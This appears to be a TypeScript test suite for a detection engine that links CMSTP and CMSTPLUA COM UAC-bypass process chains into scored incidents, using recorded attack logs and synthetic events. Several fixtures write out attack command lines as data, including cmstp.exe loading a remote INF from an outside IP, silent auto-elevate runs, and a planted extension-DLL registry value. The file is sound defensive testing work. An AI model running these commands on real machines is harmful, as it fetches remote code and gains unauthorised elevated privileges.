// Incidents: CMSTP / elevated-COM chains from lineage, members folded from rule matches, risk
// factors and triage. Real samples (WinPwnage INF bypass, UACME 41, the OTRF Atomic test by
// source), the two whole-machine corpora (no incident at medium or above), and synthetic events.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { compileRule, isCompiled, type CompiledRule } from '../src/detect/compile.js';
import type { Finding } from '../src/detect/finding.js';
import { makeFinding } from '../src/detect/scan.js';
import { normalize, TableSet } from '../src/events/normalize.js';
import { DEFAULT_TABLES } from '../src/events/tables/index.js';
import type { Event } from '../src/events/model.js';
import { IncidentBuilder, cmstpFactors, levelFor, type IncidentOptions, type IncidentResult } from '../src/incidents/index.js';
import { baseName } from '../src/lineage/index.js';
import { loadRules } from '../src/sigma/load.js';
import { RULE_LEVELS, type SigmaLevel } from '../src/sigma/rule.js';
import { readSource } from '../src/sources/index.js';
import { projectRoot, requireSharedData } from './support/shared-data.js';
import { mdeProcess, sec4688, sysmon1, sysmon10, sysmon13, sysmon3 } from './fixtures/incidents/synthetic.js';

const CMSTPLUA = '{3E5FC7F9-9A51-4367-9063-A120244FBEC7}';
const RULE_AU = '0b8c3f5e-1111-4a6e-9d2b-000000000001';
const RULE_DLLHOST = '0b8c3f5e-1111-4a6e-9d2b-000000000002';
const RULE_CMMGR32 = '0b8c3f5e-1111-4a6e-9d2b-000000000003';
const RULE_WHOAMI = '0b8c3f5e-1111-4a6e-9d2b-000000000004';

const RULES: CompiledRule[] = (() => {
  const file = path.join(projectRoot(), 'test', 'fixtures', 'incidents', 'rules.yml');
  const loaded = loadRules(readFileSync(file, 'utf8'), file);
  assert.deepEqual(loaded.diagnostics.filter((d) => d.severity === 'error'), []);
  return loaded.rules.map(compileRule).filter(isCompiled);
})();

const rank = (l: SigmaLevel | null): number => (l === null ? -1 : RULE_LEVELS.indexOf(l));

interface Run {
  result: IncidentResult;
  matches: Finding[];
}

/** What scan() does per event, with the builder beside it. */
function run(events: Iterable<Event>, rules: readonly CompiledRule[] = RULES, options: IncidentOptions = {}): Run {
  const b = new IncidentBuilder(options);
  const matches: Finding[] = [];
  for (const e of events) {
    b.observe(e);
    for (const r of rules) {
      if (!r.matches(e)) continue;
      const f = makeFinding(r, e, false);
      matches.push(f);
      b.addMatch(f, e);
    }
  }
  return { result: b.finish(), matches };
}

async function readAll(files: readonly string[]): Promise<Event[]> {
  const tables = new TableSet(DEFAULT_TABLES);
  const out: Event[] = [];
  for (const file of files) for await (const item of readSource(file)) if (item.ok) out.push(normalize(item.record, tables));
  return out;
}

const codes = (f: { factors?: Array<{ code: string }> }): string[] => (f.factors ?? []).map((x) => x.code);
const chainNames = (f: Finding): Array<string | null> => (f.chain ?? []).map((c) => baseName(c.image));

test('WinPwnage INF bypass (sysmon_1_13_11): one incident joins the /au cmstp.exe, the cmmgr32.exe write and the High cmd.exe under CMSTPLUA', async (t) => {
  const dir = requireSharedData(t);
  if (dir === null) return;
  const events = await readAll([path.join(dir, 'evtx-attack-samples', 'Privilege Escalation', 'sysmon_1_13_11_cmstp_ini_uacbypass.evtx')]);
  const { result, matches } = run(events);
  t.diagnostic(`stats ${JSON.stringify(result.stats)}`);
  assert.equal(result.incidents.length, 1);
  const inc = result.incidents[0]!;
  assert.equal(inc.kind, 'incident');
  assert.equal(inc.clsid, CMSTPLUA);
  assert.deepEqual(chainNames(inc), ['python.exe', 'cmstp.exe', 'dllhost.exe', 'cmd.exe']);
  const cmstp = inc.chain!.find((c) => baseName(c.image) === 'cmstp.exe')!;
  assert.match(cmstp.commandLine ?? '', /\/au/);
  const cmd = inc.chain!.find((c) => baseName(c.image) === 'cmd.exe')!;
  assert.equal(cmd.integrity, 'High');
  assert.equal(inc.events[cmd.event!]!.role, 'elevated child');
  const roles = inc.events.map((e) => e.role);
  for (const r of ['cmstp launch', 'profile registry write', 'elevated child']) assert.ok(roles.includes(r), `${r} in ${roles.join(', ')}`);
  const write = inc.events.find((e) => e.role === 'profile registry write')!;
  assert.match(String(write.fields['TargetObject']), /\\cmmgr32\.exe\\ProfileInstallPath$/);
  // The DllHost has no creation event here (it started earlier): its registry write shows it.
  const host = inc.chain!.find((c) => baseName(c.image) === 'dllhost.exe')!;
  assert.equal(inc.events[host.event!], write);
  // python.exe wrote the INF (tmp.ini) 2 s before cmstp.exe ran with it: the staging write leads.
  assert.deepEqual(roles, ['INF written', 'cmstp launch', 'profile registry write', 'elevated child'], 'time, then read order within the same instant');
  assert.match(String(inc.events[0]!.fields['TargetFilename']), /\\Temp\\tmp\.ini$/);
  assert.deepEqual(inc.techniques.slice(0, 2), ['T1218.003', 'T1548.002']);
  // Every pack match was on the chain: all folded in, none left alone.
  assert.deepEqual(inc.members!.map((m) => m.id).sort(), [RULE_AU, RULE_DLLHOST, RULE_CMMGR32, '0b8c3f5e-1111-4a6e-9d2b-000000000005'].sort());
  for (const m of matches) assert.ok(result.absorbed.has(m.id), m.rule.title);
  assert.equal(result.enriched.size, 0);
  assert.ok(rank(inc.level) >= rank('high'), String(inc.level));
  for (const c of ['auto-elevate', 'inf-user-writable', 'inf-odd-extension', 'com-elevation', 'elevated-child', 'profile-registry']) assert.ok(codes(inc).includes(c), c);
  assert.ok(inc.triage!.next.includes('Test rule next step.'));
  assert.ok(inc.triage!.tuning.includes('Test rule tuning.'));
  assert.ok(inc.triage!.next.length > 3);
});

test('UACME 41: the elevated cmd.exe under the CMSTPLUA DllHost is an incident from lineage alone, without cmstp.exe or any rule', async (t) => {
  const dir = requireSharedData(t);
  if (dir === null) return;
  const events = await readAll([path.join(dir, 'evtx-attack-samples', 'Privilege Escalation', 'Sysmon_UACME_41.evtx')]);
  const { result } = run(events, []);
  t.diagnostic(`stats ${JSON.stringify(result.stats)}`);
  assert.equal(result.incidents.length, 1);
  const inc = result.incidents[0]!;
  assert.equal(inc.clsid, CMSTPLUA);
  assert.deepEqual(chainNames(inc), ['dllhost.exe', 'cmd.exe']);
  assert.ok(!chainNames(inc).includes('cmstp.exe'));
  assert.equal(inc.chain![1]!.integrity, 'High');
  assert.deepEqual(inc.techniques, ['T1548.002']);
  assert.deepEqual(inc.members, []);
  assert.ok(rank(inc.level) >= rank('high'), String(inc.level));
  assert.ok(!codes(inc).includes('auto-elevate'));
});

test('OTRF Atomic T1218.003 test 2: the chain from the Sysmon events alone, and again from the Security events alone (CLSID through the 4688 pid join)', async (t) => {
  const dir = requireSharedData(t);
  if (dir === null) return;
  const all = await readAll([path.join(dir, 'otrf', 'psh_cmstp_execution_bypassuac_2020-10-2201543213.json')]);
  const bySource = {
    sysmon: all.filter((e) => e.channel === 'Microsoft-Windows-Sysmon/Operational'),
    security: all.filter((e) => e.channel === 'Security'),
    both: all,
  };
  for (const [name, events] of Object.entries(bySource)) {
    const { result } = run(events);
    t.diagnostic(`${name}: ${events.length} events, ${result.incidents.length} incident(s), lineage ${JSON.stringify(result.stats.lineage)}`);
    assert.equal(result.incidents.length, 1, name);
    const inc = result.incidents[0]!;
    assert.equal(inc.clsid, CMSTPLUA, name);
    assert.deepEqual(chainNames(inc), ['powershell.exe', 'cmstp.exe', 'dllhost.exe', 'cmd.exe', 'conhost.exe', 'whoami.exe'], name);
    const cmd = inc.chain!.find((c) => baseName(c.image) === 'cmd.exe')!;
    assert.equal(cmd.pid, 9996);
    const ev = inc.events[cmd.event!]!;
    assert.equal(ev.role, 'elevated child', name);
    if (name === 'security') {
      // 4688 has no parent command line: the CLSID comes from the DllHost's own 4688 (creator pid 0x297c).
      assert.equal(ev.fields['EventID'], 4688);
      assert.equal(ev.fields['ParentCommandLine'], undefined);
      assert.ok(inc.events.some((e) => e.role === 'COM elevation host' && String(e.fields['CommandLine']).includes(CMSTPLUA)));
    }
    if (name !== 'security') assert.ok(inc.events.some((e) => e.role === 'COM call trace'), name);
    assert.ok(inc.members!.some((m) => m.id === RULE_AU), name);
    assert.ok(!inc.members!.some((m) => m.id === RULE_WHOAMI), 'whoami is not a CMSTP technique');
    assert.ok(rank(inc.level) >= rank('high'), `${name}: ${String(inc.level)}`);
    for (const c of ['silent-install', 'auto-elevate', 'inf-user-writable', 'suspicious-parent', 'com-elevation', 'elevated-child']) assert.ok(codes(inc).includes(c), `${name}: ${c}`);
  }
  // With both sources each process is one node, whichever source is read first.
  const reversed = [...bySource.sysmon, ...bySource.security];
  for (const events of [bySource.both, reversed]) {
    const { result } = run(events);
    assert.equal(result.stats.lineage.merged, 5);
    assert.equal(result.incidents.length, 1);
    assert.equal(result.incidents[0]!.chain!.length, 6);
  }
});

test('corpus (two whole machines): no incident at medium or above', async (t) => {
  const dir = requireSharedData(t);
  if (dir === null) return;
  const corpus = path.join(dir, 'corpus');
  const files: string[] = [];
  for (const machine of readdirSync(corpus, { withFileTypes: true })) {
    if (!machine.isDirectory()) continue;
    for (const f of readdirSync(path.join(corpus, machine.name))) if (f.toLowerCase().endsWith('.evtx')) files.push(path.join(corpus, machine.name, f));
  }
  assert.ok(files.length > 100);
  const events = await readAll(files);
  const { result } = run(events);
  t.diagnostic(`corpus: ${files.length} files, ${events.length} events, ${result.incidents.length} incident(s), stats ${JSON.stringify(result.stats)}`);
  assert.ok(result.stats.lineage.nodes > 500, 'the corpus has process creations to build trees from');
  const loud = result.incidents.filter((f) => rank(f.level) >= rank('medium'));
  assert.deepEqual(loud.map((f) => `${f.level} ${f.rule.title}`), []);
  for (const [id, e] of result.enriched) assert.ok(rank(e.level) < rank('medium'), `${id}: ${String(e.level)}`);
});

// --- synthetic ----------------------------------------------------------------------------------

const SYS32 = 'C:\\Windows\\System32\\';
const HOST_CMD = `C:\\Windows\\system32\\DllHost.exe /Processid:${CMSTPLUA}`;

test('a Connection Manager profile installed by its installer from Program Files is no incident, and its match is rated informational or low', () => {
  const setup = { pid: 100, guid: '{L-1}', image: 'C:\\Program Files\\Contoso VPN\\setup.exe' };
  const events = [
    sysmon1(0, { ...setup, integrity: 'High' }),
    sysmon1(1, {
      pid: 101,
      guid: '{L-2}',
      image: `${SYS32}cmstp.exe`,
      commandLine: 'cmstp.exe "C:\\Program Files\\Contoso VPN\\contoso.inf" /s',
      originalFileName: 'CMSTP.EXE',
      pguid: setup.guid,
      ppid: setup.pid,
      parentImage: setup.image,
      integrity: 'High',
    }),
  ];
  const { result, matches } = run(events);
  assert.equal(result.incidents.length, 0);
  const m = matches.find((f) => f.rule.id === RULE_AU)!;
  const e = result.enriched.get(m.id)!;
  assert.ok(e.level === 'informational' || e.level === 'low', String(e.level));
  for (const c of ['installer-parent', 'inf-trusted-path', 'no-auto-elevate', 'silent-install']) assert.ok(e.factors.map((f) => f.code).includes(c), c);
  assert.ok(e.triage!.next.includes('Test rule next step.'));
});

test('cmstp.exe loading a remote INF from cmd.exe, connecting out and starting a child: a cmstp incident without COM', () => {
  const cmd = { pid: 200, guid: '{R-1}', image: `${SYS32}cmd.exe` };
  const cmstp = { pid: 201, guid: '{R-2}', image: `${SYS32}cmstp.exe` };
  const events = [
    sysmon1(0, cmd),
    sysmon1(1, { ...cmstp, commandLine: 'cmstp.exe /ni /s https://198.51.100.7/x.inf', pguid: cmd.guid, ppid: cmd.pid, parentImage: cmd.image }),
    sysmon3(1.5, 'WS1', cmstp, '198.51.100.7'),
    sysmon1(2, { pid: 202, guid: '{R-3}', image: `${SYS32}calc.exe`, pguid: cmstp.guid, ppid: cmstp.pid, parentImage: cmstp.image }),
  ];
  const { result } = run(events);
  assert.equal(result.incidents.length, 1);
  const inc = result.incidents[0]!;
  assert.equal(inc.clsid, undefined);
  assert.deepEqual(chainNames(inc), ['cmd.exe', 'cmstp.exe', 'calc.exe']);
  assert.deepEqual(inc.techniques, ['T1218.003']);
  for (const c of ['remote-inf', 'external-connection', 'cmstp-child', 'suspicious-parent', 'no-interaction', 'silent-install']) assert.ok(codes(inc).includes(c), c);
  assert.ok(inc.events.some((e) => e.role === 'cmstp network'));
  assert.ok(rank(inc.level) >= rank('high'), String(inc.level));
});

test('a renamed cmstp.exe (by OriginalFileName) drives the COM host; runs are told apart by time on a reused DllHost', () => {
  const host = { pid: 300, guid: '{H-1}', image: `${SYS32}dllhost.exe` };
  const parent = { pid: 299, guid: '{H-0}', image: 'C:\\Users\\bob\\Downloads\\dropper.exe' };
  const events = [
    sysmon1(0, parent),
    sysmon1(1, { pid: 301, guid: '{H-2}', image: 'C:\\Users\\Public\\vpnsetup.exe', originalFileName: 'CMSTP.EXE', commandLine: 'vpnsetup.exe /au C:\\Users\\Public\\p.txt', pguid: parent.guid, ppid: parent.pid, parentImage: parent.image }),
    sysmon1(2, { pid: 302, guid: '{H-3}', image: `${SYS32}cmd.exe`, integrity: 'High', pguid: host.guid, ppid: host.pid, parentImage: host.image, parentCommandLine: HOST_CMD }),
    sysmon10(2.1, 'WS1', host, { pid: 302, guid: '{H-3}', image: `${SYS32}cmd.exe` }, `${SYS32}advpack.dll+9c80|${SYS32}cmlua.dll+6d7e`),
    sysmon13(2.2, 'WS1', host, 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\cmmgr32.exe\\CmstpExtensionDll', 'C:\\Users\\Public\\x.dll'),
    // An hour later the same DllHost starts another elevated process, with no cmstp.exe around.
    sysmon1(3600, { pid: 303, guid: '{H-4}', image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\p.exe', integrity: 'High', pguid: host.guid, ppid: host.pid, parentImage: host.image, parentCommandLine: HOST_CMD }),
  ];
  const { result } = run(events);
  assert.equal(result.incidents.length, 2);
  const [first, second] = result.incidents as [Finding, Finding];
  assert.deepEqual(chainNames(first), ['dropper.exe', 'vpnsetup.exe', 'dllhost.exe', 'cmd.exe']);
  for (const c of ['renamed-binary', 'auto-elevate', 'inf-odd-extension', 'cmlua-calltrace', 'extension-dll', 'elevated-child']) assert.ok(codes(first).includes(c), c);
  assert.ok(!codes(first).includes('unusual-location'), 'renamed is reported once');
  assert.deepEqual(chainNames(second), ['dllhost.exe', 'p.exe']);
  assert.ok(codes(second).includes('elevated-user-path'));
  assert.notEqual(first.id, second.id);
});

test('no incident for known helpers or non-elevated children of the COM host, nor for a bare cmstp.exe run', () => {
  const host = { pid: 400, guid: '{B-1}', image: `${SYS32}dllhost.exe` };
  const events = [
    sysmon1(0, { pid: 401, guid: '{B-2}', image: `${SYS32}WerFault.exe`, integrity: 'High', pguid: host.guid, ppid: host.pid, parentImage: host.image, parentCommandLine: HOST_CMD }),
    sysmon1(1, { pid: 402, guid: '{B-3}', image: `${SYS32}notepad.exe`, integrity: 'Medium', pguid: host.guid, ppid: host.pid, parentImage: host.image, parentCommandLine: HOST_CMD }),
    sysmon1(2, { pid: 403, guid: '{B-4}', image: `${SYS32}cmstp.exe`, commandLine: 'cmstp.exe C:\\Users\\bob\\x.inf' }),
  ];
  const { result } = run(events, []);
  assert.deepEqual(result.incidents, []);
});

test('4688 only: the elevated child joins its DllHost by creator pid; a later process reusing the pid is not taken for it', () => {
  const events = [
    sec4688(0, { pid: 0x500, image: `${SYS32}cmstp.exe`, commandLine: 'cmstp.exe /au C:\\ProgramData\\a.inf', ppid: 0x4ff, parentImage: `${SYS32}WindowsPowerShell\\v1.0\\powershell.exe` }),
    sec4688(0.2, { pid: 0x600, image: `${SYS32}dllhost.exe`, commandLine: HOST_CMD, ppid: 0x3b0, integrity: 'High', elevation: '%%1937' }),
    sec4688(0.4, { pid: 0x700, image: `${SYS32}cmd.exe`, ppid: 0x600, parentImage: `${SYS32}dllhost.exe`, integrity: 'High', elevation: '%%1937' }),
    // The pid 0x600 is reused by an unrelated dllhost later; its child is no part of the chain.
    sec4688(500, { pid: 0x600, image: `${SYS32}dllhost.exe`, commandLine: 'DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}', ppid: 0x3b0, integrity: 'High' }),
    sec4688(501, { pid: 0x800, image: `${SYS32}cmd.exe`, ppid: 0x600, parentImage: `${SYS32}dllhost.exe`, integrity: 'High' }),
  ];
  const { result } = run(events, []);
  assert.equal(result.incidents.length, 1);
  const inc = result.incidents[0]!;
  assert.equal(inc.clsid, CMSTPLUA);
  assert.deepEqual(inc.chain!.map((c) => c.pid), [0x4ff, 0x500, 0x600, 0x700]);
});

test('caps: evidence beyond maxEvidence is dropped and counted', () => {
  const events: Event[] = [];
  for (let i = 0; i < 30; i++) events.push(sysmon1(i, { pid: 1000 + i, guid: `{K-${i}}`, image: `${SYS32}cmstp.exe`, commandLine: 'cmstp.exe /s x.inf' }));
  const { result } = run(events, [], { maxEvidence: 10 });
  assert.equal(result.stats.evidence, 10);
  assert.equal(result.stats.evidenceDropped, 20);
});

test('risk: levels follow the documented thresholds; flags are read from arguments, not from the program path', () => {
  assert.equal(levelFor(-30), 'informational');
  assert.equal(levelFor(0), 'informational');
  assert.equal(levelFor(1), 'low');
  assert.equal(levelFor(30), 'medium');
  assert.equal(levelFor(60), 'high');
  assert.equal(levelFor(100), 'critical');
  const f = cmstpFactors({ image: 'C:\\Windows\\System32\\cmstp.exe', commandLine: '"C:\\Windows\\System32\\cmstp.exe" /s "C:\\Users\\a b\\x.inf"', originalFileName: null, parentImage: null, parentCommandLine: null }, false);
  assert.deepEqual(f.map((x) => x.code), ['silent-install', 'inf-argument', 'inf-user-writable', 'no-auto-elevate']);
  const dash = cmstpFactors({ image: 'C:\\Windows\\SysWOW64\\cmstp.exe', commandLine: 'cmstp -au -ns \\\\10.0.0.5\\share\\x.inf', originalFileName: 'CMSTP.EXE', parentImage: null, parentCommandLine: null }, false);
  assert.deepEqual(dash.map((x) => x.code), ['auto-elevate', 'no-interaction', 'inf-argument', 'remote-inf']);
});


test('Defender rows alone: the DllHost is known only from InitiatingProcess* columns, and the chain still forms', () => {
  const ps = { ProcessId: 700, FolderPath: `${SYS32}WindowsPowerShell\\v1.0\\powershell.exe`, ProcessCommandLine: 'powershell.exe', ProcessCreationTime: '2026-03-01T09:59:00Z' };
  const events = [
    mdeProcess(0, {
      ProcessId: 701,
      FolderPath: `${SYS32}cmstp.exe`,
      FileName: 'cmstp.exe',
      ProcessVersionInfoOriginalFileName: 'CMSTP.EXE',
      ProcessCommandLine: 'cmstp.exe /s /au C:\\Users\\bob\\AppData\\Local\\Temp\\a.inf',
      ProcessCreationTime: '2026-03-01T10:00:00Z',
      ProcessIntegrityLevel: 'Medium',
      InitiatingProcessId: ps.ProcessId,
      InitiatingProcessFolderPath: ps.FolderPath,
      InitiatingProcessCommandLine: ps.ProcessCommandLine,
      InitiatingProcessCreationTime: ps.ProcessCreationTime,
    }),
    mdeProcess(1, {
      ProcessId: 703,
      FolderPath: `${SYS32}cmd.exe`,
      FileName: 'cmd.exe',
      ProcessCommandLine: 'cmd.exe',
      ProcessCreationTime: '2026-03-01T10:00:01Z',
      ProcessIntegrityLevel: 'High',
      ProcessTokenElevation: 'TokenElevationTypeFull',
      InitiatingProcessId: 702,
      InitiatingProcessFolderPath: `${SYS32}dllhost.exe`,
      InitiatingProcessFileName: 'dllhost.exe',
      InitiatingProcessCommandLine: HOST_CMD,
      InitiatingProcessCreationTime: '2026-03-01T10:00:00.500Z',
    }),
  ];
  const { result } = run(events, []);
  assert.equal(result.incidents.length, 1);
  const inc = result.incidents[0]!;
  assert.equal(inc.clsid, CMSTPLUA);
  assert.deepEqual(chainNames(inc), ['powershell.exe', 'cmstp.exe', 'dllhost.exe', 'cmd.exe']);
  assert.equal(inc.chain![2]!.event, null, 'the DllHost has no event of its own');
  assert.ok(rank(inc.level) >= rank('high'));
});
